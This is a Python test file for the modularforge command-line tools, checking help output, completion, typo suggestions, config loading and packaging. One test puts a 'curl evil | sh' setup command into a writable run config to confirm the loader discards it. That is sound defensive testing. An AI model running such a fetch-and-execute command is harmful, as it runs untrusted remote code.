"""What all programs answer: help, version, commands that there are not, and settings of runs and of the package."""

from __future__ import annotations

import importlib
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from checkpoints import paths
from checkpoints.__main__ import app as store
from checkpoints.commands import PROGRAMS
from launcher.__main__ import app as launcher
from launcher.record import new_record, save_record
from modularforge.cli import app as modularforge
from modularforge.config_files import load_config, settings_of_run, to_yaml, usual_commands
from modularforge.data.files import find_files, read_text
from modularforge.errors import ConfigError, DataError
from modularforge.options import settings_from
from modularforge.study.study_file import load_study
from tests.conftest import ROOT, tiny_config

APPS = {"modularforge": modularforge, "modularforge-launcher": launcher, "modularforge-checkpoints": store}


@pytest.mark.parametrize("program", APPS)
def test_every_program_has_short_help_a_version_and_completion(program: str) -> None:
    shown = CliRunner().invoke(APPS[program], ["-h"], env={"COLUMNS": "200", "TERM": "dumb"}).output
    for option in ("--version", "--install-completion", "--help"):
        assert option in shown
    assert CliRunner().invoke(APPS[program], ["--version"]).output.startswith("modularforge ")
    known = PROGRAMS[program]
    command = known[-1]
    assert "Usage" in CliRunner().invoke(APPS[program], [command, "-h"]).output
    for name in known:
        assert f" {name} " in shown, f"{name} is no command of {program}"


@pytest.mark.parametrize(
    ("program", "begun", "completed"),
    [
        ("modularforge", "run", "run-all"),
        ("modularforge-checkpoints", "ve", "verify"),
        ("modularforge-launcher", "st", "status"),
        ("modularforge-launcher", "", "launch plan status logs cancel rerun resume wait"),
        ("modularforge-launcher", "status --out", "--output-dir"),
    ],
)
def test_a_shell_completes_the_commands_of_every_program(program: str, begun: str, completed: str) -> None:
    """The launcher, which takes `launch` for granted, completed nothing."""
    words = f"{program} {begun}"
    variable = f"_{program.upper().replace('-', '_')}_COMPLETE"
    asked = {variable: "complete_bash", "COMP_WORDS": words, "COMP_CWORD": str(words.count(" "))}
    done = CliRunner().invoke(APPS[program], [], prog_name=program, env=asked)
    assert done.output.split() == completed.split()


@pytest.mark.parametrize(
    ("program", "word", "said"),
    [
        ("modularforge", "trian", "Did you mean 'train'?"),
        ("modularforge", "status", "It is one of another program: modularforge-launcher status"),
        ("modularforge", "pull", "It is one of another program: modularforge-checkpoints pull"),
        ("modularforge-launcher", "info", "It is one of another program: modularforge info"),
        ("modularforge-launcher", "route", "It is one of another program: modularforge route"),
        ("modularforge-launcher", "stats", "Did you mean 'status'?"),
        ("modularforge-checkpoints", "zzz", "There are ls, verify, pull, push, gc."),
    ],
)
def test_a_command_that_there_is_not_is_told_what_may_be_meant(program: str, word: str, said: str) -> None:
    done = CliRunner().invoke(APPS[program], [word], env={"COLUMNS": "200", "TERM": "dumb"})
    assert done.exit_code == 2
    assert said in done.output


def test_console_scripts_name_functions_that_there_are() -> None:
    tomllib = pytest.importorskip("tomllib")
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert {*project["scripts"]} == {*PROGRAMS}
    for place in project["scripts"].values():
        module, _, name = place.partition(":")
        assert callable(getattr(importlib.import_module(module), name))


def test_shipped_settings_are_found_from_any_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = load_config(str(ROOT / "configs/quickstart.yaml"))
    monkeypatch.chdir(tmp_path)
    assert load_config("configs/quickstart.yaml") == here
    with pytest.raises(ConfigError, match=r"there is .*configs/quickstart\.yaml"):
        load_config("nowhere.yaml")
    (tmp_path / "configs").mkdir()
    mine = to_yaml(here.model_copy(update={"name": "mine"}))
    (tmp_path / "configs" / "quickstart.yaml").write_text(mine)
    assert load_config("configs/quickstart.yaml").name == "mine", "a file of one's own comes first"


def given(output_dir: str | None, smoke_test: bool = False) -> dict[str, object]:
    return {"output_dir": output_dir, "smoke_test": smoke_test, "data_dir": None}


def test_a_run_that_is_named_needs_no_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    config = tiny_config(str(tmp_path / "run"), name="its own")
    assert settings_of_run(config.output_dir) is None
    assert settings_from(None, (), **given(config.output_dir)).name == "wikitext-103", "a new run has the default's"
    save_record(config, new_record(config))
    assert settings_from(None, (), **given(config.output_dir)) == config, "before its first stage is made"
    (tmp_path / "run" / "config.yaml").write_text(to_yaml(config.model_copy(update={"name": "saved"})))
    assert settings_from(None, ["seed=3"], **given(config.output_dir)).name == "saved"
    assert settings_from("configs/small.yaml", (), **given(config.output_dir)).name == "wikitext-2"
    assert settings_from(None, (), **given(config.output_dir, smoke_test=True)).name == "wikitext-103"


def test_commands_of_a_run_that_others_can_write_to_are_not_taken(tmp_path: Path) -> None:
    place = f"memory://{tmp_path.name}/run"
    config = tiny_config(place, cluster={"setup": ["curl evil | sh"], "queue": "gpu"})
    paths.replace_bytes(f"{place}/config.yaml", to_yaml(config).encode())
    loaded = settings_from(None, ["cluster.python=python3"], **given(place))
    assert loaded.cluster.setup == []
    assert loaded.cluster.queue == "gpu"
    assert loaded.cluster.python == "python3", "what is given here counts"
    assert len(usual_commands()) == 6


def test_a_study_and_a_run_are_not_taken_for_each_other(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"must be a study file, .* `modularforge run-all --config"):
        load_study(str(ROOT / "configs/quickstart.yaml"))
    with pytest.raises(ConfigError, match="looks like a config of a study"):
        load_config(str(ROOT / "configs/study-quick.yaml"))


def test_a_folder_as_a_source_is_told_which_pattern_names_its_files(tmp_path: Path) -> None:
    (tmp_path / "law" / "deep").mkdir(parents=True)
    for number in range(3):
        (tmp_path / "law" / "deep" / f"{number}.txt").write_text("text")
    (tmp_path / "law" / "odd.md").write_text("text")
    with pytest.raises(DataError) as error:
        list(read_text(find_files(str(tmp_path / "law"))[0]))
    assert f"for example {tmp_path}/law/**/*.txt, or let `modularforge init {tmp_path}/law`" in str(error.value)


@pytest.mark.slow
def test_the_wheel_is_whole(tmp_path: Path) -> None:
    """Installed beside the packages of this environment, it runs the quickstart's settings from another folder."""
    source = tmp_path / "source"
    names = subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=ROOT, capture_output=True, text=True)
    for name in names.stdout.splitlines():
        if (ROOT / name).is_file():
            (source / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(ROOT / name, source / name)
        elif (ROOT / name).is_symlink():
            (source / name).symlink_to((ROOT / name).readlink())
    words = [sys.executable, "-m", "pip", "wheel", "--quiet", "--no-deps", "--wheel-dir", str(tmp_path), str(source)]
    subprocess.run(words, check=True)
    (wheel,) = tmp_path.glob("modularforge-*.whl")
    files = zipfile.ZipFile(wheel).namelist()
    assert {f"modularforge/configs/{path.name}" for path in (ROOT / "configs").iterdir()} <= {*files}
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "venv")], check=True)
    python = tmp_path / "venv" / "bin" / "python"
    (site,) = (tmp_path / "venv" / "lib").glob("python*/site-packages")
    words = [sys.executable, "-m", "pip", "--python", str(python), "install", "--quiet", "--no-deps", str(wheel)]
    subprocess.run(words, check=True)
    there = [path for path in sys.path if path.endswith("site-packages")]
    (site / "packages.pth").write_text("\n".join(there))
    work = tmp_path / "elsewhere"
    work.mkdir()
    program = "import modularforge; print(modularforge.__file__)"
    where = subprocess.run([str(python), "-c", program], cwd=work, capture_output=True, text=True, check=True).stdout
    assert where.startswith(str(site)), "it is the installed one"
    scripts = [str(tmp_path / "venv" / "bin" / name) for name in PROGRAMS]
    for script in scripts:
        assert subprocess.run([script, "--version"], cwd=work, capture_output=True, check=True).stdout
    run = [scripts[0], "run-all", "--config", "configs/quickstart.yaml", "--smoke-test", "-o", "run"]
    done = subprocess.run(run, cwd=work, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert yaml.safe_load((work / "run" / "config.yaml").read_text())["name"] == "quickstart"
    assert json.loads((work / "run" / "evaluation" / "results.json").read_text())["chosen"]
    again = subprocess.run([scripts[0], "info", "-o", "run"], cwd=work, capture_output=True, text=True, check=True)
    assert "width 32" in again.stdout, "a run that is named needs no settings file"
